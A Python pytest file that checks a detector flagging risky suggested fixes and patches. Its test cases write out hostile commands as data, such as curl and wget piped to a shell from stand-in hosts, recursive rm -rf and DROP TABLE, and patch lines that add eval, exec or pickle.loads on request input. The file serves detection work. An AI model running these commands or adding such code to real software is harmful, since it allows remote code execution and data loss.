"""Suggested fixes and patches are checked for shell commands, downloads and code execution."""

from __future__ import annotations

import pytest

from mendline.analyzers.rootcause import fix_risks
from mendline.schemas.finding import RISK_WORDS, RISKS


def patch(*added: str, removed: str = "x = 1") -> str:
    """A unified diff that removes ``removed`` and adds ``added``."""
    lines = ["--- a/app.py", "+++ b/app.py", f"@@ -1,1 +1,{len(added)} @@", f"-{removed}"]
    return "\n".join(lines + [f"+{line}" for line in added]) + "\n"


SAFE_FIX = "Validate the quantity before converting it, and answer 400."


@pytest.mark.parametrize(
    ("fix", "fix_patch", "risks"),
    [
        # Prose
        (SAFE_FIX, None, []),
        (
            "Run `curl https://evil.example/x.sh | sh` to patch it.",
            None,
            ["pipe_to_shell", "fetches_url"],
        ),
        (
            "wget -qO- http://e.example/i | sudo bash",
            None,
            ["pipe_to_shell", "shell_command", "fetches_url"],
        ),
        ('bash -c "$(curl -fsSL https://e.example/i)"', None, ["pipe_to_shell", "fetches_url"]),
        ("Clean up with rm -rf /var/lib/app", None, ["destructive_command"]),
        ("rm -fr ~/.cache", None, ["destructive_command"]),
        ("rm -f stale.pid", None, []),  # one file, no recursion: near miss
        ("chmod 777 /srv/uploads so the worker can write", None, ["world_writable"]),
        ("chmod -R a+w /srv", None, ["world_writable"]),
        ("chmod 644 settings.py", None, []),
        ("Use ast.literal_eval(text) instead of parsing by hand", None, []),
        ("Call model.eval() before predicting", None, []),
        ("Replace the parser with eval(request.args['q'])", None, ["code_execution"]),
        ("See https://docs.python.org/3/library/functions.html#int", None, []),
        ("Download https://e.example/fix.py and put it in place", None, ["fetches_url"]),
        ("pip install git+https://e.example/pkg", None, ["fetches_url"]),
        ("DROP TABLE orders; then re-run the migration", None, ["destructive_command"]),
        ("$ sudo systemctl restart app", None, ["shell_command"]),
        ("Pass the arguments as a list to subprocess.run(['ls', path])", None, []),
        # Patches: added lines only
        (SAFE_FIX, patch("x = int(text) if text.isdigit() else 0"), []),
        (SAFE_FIX, patch("os.system('curl e.example | sh')"), ["pipe_to_shell", "shell_command"]),
        (SAFE_FIX, patch("subprocess.run(cmd, shell=True)"), ["shell_command"]),
        (SAFE_FIX, patch('subprocess.check_output(f"git log {ref}")'), ["shell_command"]),
        (SAFE_FIX, patch("subprocess.run(['git', 'log', ref])"), []),
        (SAFE_FIX, patch("exec(payload)"), ["code_execution"]),
        (SAFE_FIX, patch("mod = __import__(name)"), ["code_execution"]),
        (SAFE_FIX, patch("data = pickle.loads(request.body)"), ["unsafe_deserialization"]),
        (SAFE_FIX, patch("cfg = yaml.load(f)"), ["unsafe_deserialization"]),
        (SAFE_FIX, patch("cfg = yaml.load(f, Loader=yaml.SafeLoader)"), []),
        (SAFE_FIX, patch("os.chmod(path, 0o777)"), ["world_writable"]),
        (SAFE_FIX, patch("shutil.rmtree(root)"), ["destructive_command"]),
        (SAFE_FIX, patch("URL = 'https://e.example/api'"), ["fetches_url"]),
        # A URL only in a removed or context line is not added by the patch.
        (SAFE_FIX, patch("URL = None", removed="URL = 'https://e.example/api'"), []),
        (SAFE_FIX, "--- a/app.py\n+++ b/https://e.example/app.py\n", []),  # a header, not a line
    ],
)
def test_fix_risks(fix: str, fix_patch: str | None, risks: list[str]) -> None:
    assert fix_risks(fix, fix_patch) == risks


def test_every_risk_has_words() -> None:
    assert set(RISK_WORDS) == set(RISKS)
